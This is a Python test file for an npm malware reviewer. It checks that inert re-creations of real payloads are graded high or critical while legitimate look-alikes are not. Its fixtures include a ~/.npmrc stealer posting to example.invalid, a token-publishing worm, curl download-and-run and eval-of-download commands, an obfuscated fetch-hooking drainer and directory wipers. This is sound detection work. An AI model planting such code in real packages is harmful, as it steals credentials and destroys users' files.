"""Severities from combinations: inert re-creations of real payload shapes are high or
critical; the common legitimate shapes are at most moderate."""

from __future__ import annotations

import json
import random
import threading
import time

from reviewer.code import PackageCode, analyze_package, compare_packages, grade
from reviewer.signals.finding import Severity


def package(files: dict[str, str], **manifest: object) -> dict[str, bytes]:
    meta = {"name": "p", "version": "1.0.0", **manifest}
    return {"package.json": json.dumps(meta).encode(), **{k: v.encode() for k, v in files.items()}}


def worst(new: dict[str, bytes], old: dict[str, bytes] | None = None) -> tuple[Severity | None, list[str]]:
    code = analyze_package(new)
    changes = compare_packages(analyze_package(old), code) if old is not None else None
    findings = grade(code, changes)
    return (findings[0].severity if findings else None), [f.summary for f in findings]


DEBUG = "module.exports = function debug(name) {\n  return function () { console.log(name) }\n};\n"


def drainer() -> str:
    rng = random.Random(7)
    ids = [f"_0x{rng.randrange(16**4, 16**6):x}" for _ in range(40)]
    array = ",".join(repr(f"{rng.randrange(16**8):x}") for _ in range(600))
    return ("throw new Error('inert');"
            f"const {ids[0]}=[{array}];(function({ids[1]},{ids[2]}){{while(!![]){{try{{"
            f"{ids[1]}['push']({ids[1]}['shift']());}}catch({ids[3]}){{}}}}}}({ids[0]},0x1a2));"
            + "".join(f"function {i}({ids[5]}){{return {ids[0]}[{ids[5]}-0x1]}}" for i in ids[6:30])
            + "const _f=fetch;fetch=async function(...a){return _f(...a)};"
              "XMLHttpRequest.prototype.open=function(){};"
              r"const r1=/\b0x[a-fA-F0-9]{40}\b/g,r2=/\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\b/g;")


def test_chalk_debug_drainer_appended_is_critical_and_says_what_changed() -> None:
    old = package({"src/index.js": DEBUG}, main="src/index.js", version="4.4.1")
    new = package({"src/index.js": DEBUG + drainer()}, main="src/index.js", version="4.4.2")
    severity, summaries = worst(new, old)
    assert severity is Severity.CRITICAL
    assert summaries[0].startswith("src/index.js newly hooks")
    assert "fetch" in summaries[0] and "XMLHttpRequest" in summaries[0] and "obfuscated code" in summaries[0]


def test_obfuscated_code_newly_added_to_an_entry_file_is_critical() -> None:
    rng = random.Random(3)
    ids = [f"_0x{rng.randrange(16**4, 16**6):x}" for _ in range(60)]
    obfuscated = ";".join(f"var {a}={b}+{c}" for a, b, c in zip(ids, ids[1:], ids[2:], strict=False)) * 20
    old = package({"index.js": DEBUG}, version="1.0.0")
    new = package({"index.js": DEBUG + obfuscated}, version="1.0.1")
    severity, summaries = worst(new, old)
    assert severity is Severity.CRITICAL and "newly added obfuscated code" in summaries[0]
    assert worst(old, old)[0] is None


def test_flatmap_stream_decoded_then_compiled_is_high() -> None:
    payload = ('var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}'
               'var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];var u=r(e(n[2]))[e(n[6])](e(n[5]),o),'
               'a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));var f=new module.constructor;'
               'f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])')
    severity, summaries = worst(package({"index.js": "module.exports = require('./lib/flat');\n",
                                          "lib/flat.js": "throw new Error('inert');\n" + payload}))
    assert severity is not None and severity >= Severity.HIGH
    assert "decodes hidden code and runs it" in summaries[0]


def test_credentials_read_with_network_send_at_install_is_critical() -> None:
    telemetry = ("const fs=require('fs'),os=require('os'),path=require('path');\n"
                 "const t=fs.readFileSync(path.join(os.homedir(),'.npmrc'),'utf8');\n"
                 "fetch('https://example.invalid/c',{method:'POST',body:t});\n")
    for hook in ("node telemetry.js", "node -e \"try{require('./telemetry.js')}catch(e){}\""):
        severity, summaries = worst(package({"telemetry.js": telemetry}, scripts={"postinstall": hook}))
        assert severity is Severity.CRITICAL, (hook, summaries)
        assert ".npmrc" in summaries[0]


def test_worm_padded_past_megabytes_is_still_critical() -> None:
    worm = ("const {execSync}=require('child_process');const https=require('https');\n"
            "const t=process.env.NPM_TOKEN;execSync('npm publish');\n"
            "https.request({hostname:'example.invalid',method:'POST'}).end(JSON.stringify(process.env));\n")
    padding = "function pad(){return 1}\n" * 150_000
    severity, summaries = worst(package({"bundle.js": padding + worm}, scripts={"postinstall": "node bundle.js"}))
    assert severity is Severity.CRITICAL
    assert any("publishes packages with a registry token" in s for s in summaries)


def test_download_and_run_at_install_is_high() -> None:
    js = "const {exec}=require('child_process');\nexec('curl http://example.invalid/x -o x; chmod +x x; ./x &');\n"
    severity, _ = worst(package({"preinstall.js": js},
                                scripts={"preinstall": "start /B node preinstall.js & node preinstall.js"}))
    assert severity is not None and severity >= Severity.HIGH


def test_prebuilt_binary_downloader_honouring_a_mirror_is_moderate_and_says_so() -> None:
    install = ("// downloads the binary; see .npmrc for a mirror\nconst https = require('https');\n"
               "const fs = require('fs');\nconst host = process.env.FOO_BINARY_MIRROR || 'https://example.invalid/releases';\n"
               "https.get(host + '/foo-' + process.platform + '.tgz', (res) => res.pipe(fs.createWriteStream('bin/foo')));\n")
    severity, summaries = worst(package({"install.js": install}, scripts={"postinstall": "node install.js"}))
    assert severity is Severity.MODERATE
    assert "downloads at install time" in summaries[0] and "FOO_BINARY_MIRROR" in summaries[0]


def test_funding_banner_and_comment_mentions_raise_nothing() -> None:
    banner = ("// Thank you for using this package. Credentials in ~/.npmrc are never read.\n"
              "console.log('\\u001b[96mPlease consider supporting us: https://example.invalid/donate\\u001b[0m');\n")
    severity, _ = worst(package({"postinstall.js": banner}, scripts={"postinstall": "node postinstall.js"}))
    assert severity is None


def test_already_present_in_the_previous_release_is_lowered_and_said() -> None:
    hook = "window.fetch = function (u) { return 1 };\n"
    old = package({"index.js": hook}, version="1.0.0")
    new = package({"index.js": hook + "// 1.0.1\n"}, version="1.0.1")
    severity, summaries = worst(new, old)
    assert severity is Severity.MODERATE and "already in 1.0.0" in summaries[0]


def test_time_budget_makes_the_analysis_incomplete_never_a_silent_pass() -> None:
    files = package({"index.js": "require('./a');\n" + "var x = 1;\n" * 20000, "a.js": "eval(x)\n"})
    code = analyze_package(files, time_budget_s=0.0)
    assert code.incomplete is not None and "analysis incomplete" in code.incomplete
    findings = grade(code)
    assert findings and findings[-1].kind == "incomplete" and findings[0].severity >= Severity.MODERATE


def test_the_budget_is_cpu_time_so_a_loaded_machine_does_not_cut_the_analysis_short() -> None:
    """Three threads that hold the GIL for tens of milliseconds at a time slow the analysis
    down to several times its CPU time (also while tree-sitter, in C, holds it itself):
    with a budget of twice that CPU time the analysis is complete (a wall-clock budget would
    have run out), and a budget under it still stops it."""
    body = "function f%d(a) { return require('https').get('https://x.example.invalid/' + a, r => r.pipe(process.stdout)); }\n"
    files = package({"index.js": "".join(body % i for i in range(6000))})
    started = time.thread_time()
    assert analyze_package(files, time_budget_s=60.0).incomplete is None
    cpu = time.thread_time() - started
    stop = threading.Event()

    def hog() -> None:  # each sum is one long C call that keeps the GIL (tens of ms)
        while not stop.is_set():
            sum(range(3_000_000))

    hogs = [threading.Thread(target=hog) for _ in range(3)]
    out: dict[str, object] = {}
    for thread in hogs:
        thread.start()
    try:
        worker = threading.Thread(target=lambda: out.update(
            loaded=analyze_package(files, time_budget_s=2 * cpu),
            starved=analyze_package(files, time_budget_s=cpu / 4)))
        worker.start()
        worker.join()
    finally:
        stop.set()
        for thread in hogs:
            thread.join()
    loaded, starved = out["loaded"], out["starved"]
    assert isinstance(loaded, PackageCode) and isinstance(starved, PackageCode)
    assert loaded.seconds > 2 * cpu, (loaded.seconds, cpu)  # the load did slow it past the budget
    assert loaded.incomplete is None and any(f.capabilities for f in loaded.files)
    assert starved.incomplete is not None and "CPU time budget" in starved.incomplete


def test_geo_lookup_then_wiping_files_from_the_main_file_is_critical() -> None:
    geo = ("const fs=require('fs'),path=require('path'),https=require('https');\n"
           "function del(d){for(const e of fs.readdirSync(d)){try{fs.writeFileSync(path.join(d,e),'x')}catch(x){}}}\n"
           "https.get('https://geo.example.invalid/', r => { del(require('os').homedir() + '/Desktop'); });\n")
    main = "require('./dao/geo.js');\nmodule.exports = 1;\n"
    severity, summaries = worst(package({"index.js": main, "dao/geo.js": geo}))
    assert severity is Severity.CRITICAL and summaries[0].startswith("dao/geo.js walks directories")


def test_eval_of_downloaded_code_at_install_is_high() -> None:
    build = "require('https').get('https://paste.example.invalid/raw', r => r.on('data', c => eval(c)));\n"
    severity, summaries = worst(package({"build.js": build}, scripts={"postinstall": "node build.js"}))
    assert severity is Severity.HIGH and "downloads code at install time and can run it" in summaries[0]


def test_remote_script_is_high_and_moderate_when_it_was_always_there() -> None:
    loader = ("export function load() { const s = document.createElement('script');\n"
              "  s.src = 'https://cdn.example.invalid/kit/index.min.js'; document.head.appendChild(s); }\n")
    clean = "export function load() { return import('./kit.js'); }\n"
    new = package({"index.js": loader}, version="1.0.1")
    assert worst(new)[0] is Severity.HIGH
    assert worst(new, package({"index.js": clean}))[0] is Severity.HIGH
    severity, summaries = worst(new, package({"index.js": loader + "// 1.0.0\n"}))
    assert severity is Severity.MODERATE and "already in 1.0.0" in summaries[0]


def _bundle_module(index: int) -> str:
    """One module of an esbuild-style bundle: ordinary code, about 1 KB."""
    return (f"var m{index} = __commonJS((exports, module) => {{\n"
            + "".join(f"  function f{index}_{j}(a, b) {{ return a.map((x) => x * {j} + b).filter(Boolean); }}\n"
                      for j in range(12))
            + "});\n")


def bundle(*parts: str, padding_kb: int = 600) -> str:
    """`parts` placed apart from one another in a bundle of `padding_kb` KB of modules."""
    modules = [_bundle_module(i) for i in range(padding_kb)]
    step = len(modules) // (len(parts) + 1)
    for n, part in enumerate(parts, 1):
        modules.insert(n * step + n - 1, part)
    return "".join(modules)


NPMRC_PREFIX = ("var prefix = __commonJS(() => {\n"
                "  const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
                "  module.exports = /prefix=(.*)/.exec(rc);\n});\n")
HTTP_CLIENT = ("var client = __commonJS(() => {\n  const https = require('https');\n"
               "  module.exports = (u) => https.get(u);\n});\n")


def test_a_bundle_whose_modules_read_npmrc_and_make_requests_far_apart_is_moderate() -> None:
    """A CLI bundle (prisma, yarn): one module reads ~/.npmrc for a prefix, another is an
    HTTP client 300 KB away. Not a credential thief: moderate, and it says why."""
    severity, summaries = worst(package({"cli.js": bundle(NPMRC_PREFIX, HTTP_CLIENT)}, main="cli.js"))
    assert severity is Severity.MODERATE
    assert "in other code of this" in summaries[0] and "bundle" in summaries[0]


def test_a_stealer_inside_a_bundle_is_still_high_and_critical_at_install() -> None:
    stealer = ("var x = __commonJS(() => {\n"
               "  const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
               "  require('https').request({ host: 'exfil.example.invalid', method: 'POST' }).end(rc);\n});\n")
    severity, _ = worst(package({"cli.js": bundle(stealer)}, main="cli.js"))
    assert severity is Severity.HIGH
    severity, _ = worst(package({"cli.js": bundle(stealer)}, main="cli.js",
                                scripts={"postinstall": "node cli.js"}))
    assert severity is Severity.CRITICAL


def test_a_property_named_like_a_dot_file_is_not_a_write_outside_the_package() -> None:
    """next's cpu-profile.js: `writeFileSync(outputPath, JSON.stringify(param.profile))`."""
    code = "const fs = require('fs');\nfs.writeFileSync(outputPath, JSON.stringify(param.profile));\n"
    assert worst(package({"index.js": code}))[0] is None
    planted = "const fs = require('fs');\nfs.writeFileSync(require('os').homedir() + '/.profile', 'x');\n"
    severity, summaries = worst(package({"index.js": planted}))
    assert severity is Severity.HIGH and "writes into" in summaries[0]


def test_a_project_generator_writing_a_workflow_is_moderate_a_worm_planting_one_is_high() -> None:
    """playwright's `init-agents` writes .github/workflows/copilot-setup-steps.yml; a worm writes
    one beside a token and a request, or at install time."""
    generator = ("const fs = require('fs');\n"
                 "fs.writeFileSync('.github/workflows/copilot-setup-steps.yml', yaml);\n")
    severity, summaries = worst(package({"index.js": generator}))
    assert severity is Severity.MODERATE and "as a project generator does" in summaries[0]
    worm = generator + ("const token = process.env.GITHUB_TOKEN;\n"
                        "fetch('https://api.example.invalid/repos', { headers: { authorization: token } });\n")
    assert worst(package({"index.js": worm}))[0] in (Severity.HIGH, Severity.CRITICAL)
    severity, _ = worst(package({"setup.js": generator}, scripts={"postinstall": "node setup.js"}))
    assert severity is Severity.HIGH


def test_a_compressed_asset_newly_embedded_is_not_obfuscated_code() -> None:
    """yarn 2's bin/yarn.js embeds brotli-compressed archives as base64 and decodes them at
    run time: an asset, not obfuscation. The same blob decoded and run stays high or more."""
    rng = random.Random(11)
    blob = "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
                   for _ in range(3000))
    old = package({"bin/cli.js": DEBUG}, bin={"cli": "bin/cli.js"}, version="1.0.0")
    asset = (f"let z;function lib(){{return z||(z=require('zlib').brotliDecompressSync("
             f"Buffer.from(\"{blob}\",\"base64\")))}}\n")
    new = package({"bin/cli.js": DEBUG + asset}, bin={"cli": "bin/cli.js"}, version="1.0.1")
    severity, summaries = worst(new, old)
    assert severity is None or severity <= Severity.LOW, summaries
    run = f"eval(Buffer.from(\"{blob}\",\"base64\").toString());\n"
    new = package({"bin/cli.js": DEBUG + run}, bin={"cli": "bin/cli.js"}, version="1.0.1")
    assert worst(new, old)[0] in (Severity.HIGH, Severity.CRITICAL)


def test_npm_publish_counts_as_a_command_not_as_words_in_help_text() -> None:
    """yarn's bundle documents `yarn npm publish` and names `npmAuthToken`: a package
    manager, not a worm. `execSync("cd pkg && npm publish")` with a token is."""
    help_text = ("const examples = [['Publish the active workspace', 'yarn npm publish']];\n"
                 "const settings = { npmAuthToken: { description: 'Authentication token "
                 "(_authToken in npm and yarn v1)' } };\n")
    severity, summaries = worst(package({"index.js": help_text}))
    assert severity is None or severity <= Severity.MODERATE, summaries
    worm = ("const { execSync } = require('child_process');\n"
            "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
            "execSync(`cd ${dir} && npm publish --access public`, { env: { NPM_TOKEN: t } });\n")
    severity, summaries = worst(package({"index.js": worm}))
    assert severity is Severity.CRITICAL and any("publishes packages" in s for s in summaries)


def test_a_global_under_a_computed_name_newly_set_says_nothing() -> None:
    """next 16.5's local-span-recorder.js: `globalThis[KEY] = api` (a singleton), new in a
    changed file: no "now hooks runtime APIs"; a fetch hook newly added still is critical."""
    old = package({"index.js": DEBUG}, version="1.0.0")
    singleton = DEBUG + "const KEY = Symbol.for('recorder');\nglobalThis[KEY] = makeRecorder();\n"
    assert worst(package({"index.js": singleton}, version="1.0.1"), old)[0] is None
    hook = DEBUG + "const f = globalThis.fetch;\nglobalThis.fetch = async (...a) => f(...a);\n"
    assert worst(package({"index.js": hook}, version="1.0.1"), old)[0] in (Severity.HIGH, Severity.CRITICAL)


def test_a_home_directory_lookup_in_another_module_does_not_make_rimraf_a_wiper() -> None:
    """prisma's CLI bundle: rimraf's walk-and-unlink module sits beside env-paths, whose
    function calls os.homedir(). The wiper shape needs the outside place in reach of the
    deletion: at the top level or in the same function (what node-ipc's payload did)."""
    rimraf = ("var rimraf = __commonJS((exports, module) => {\n"
              "  function rm(p, cb) { fs.readdir(p, (e, names) => { names.forEach((n) => fs.unlink(path.join(p, n), cb)); }); }\n"
              "  module.exports = rm;\n});\n")
    env_paths = ("var envPaths = __commonJS((exports, module) => {\n"
                 "  const homedir = os.homedir();\n  module.exports = () => path.join(homedir, 'Library');\n});\n")
    assert worst(package({"cli.js": rimraf + env_paths}, main="cli.js"))[0] is None
    wiper = ("const fs = require('fs'), os = require('os'), path = require('path');\n"
             "function wipe(dir) { for (const n of fs.readdirSync(dir)) { const p = path.join(dir, n);\n"
             "  fs.writeFileSync(p, 'x'); } }\nwipe(os.homedir());\n")
    assert worst(package({"index.js": wiper}))[0] in (Severity.HIGH, Severity.CRITICAL)
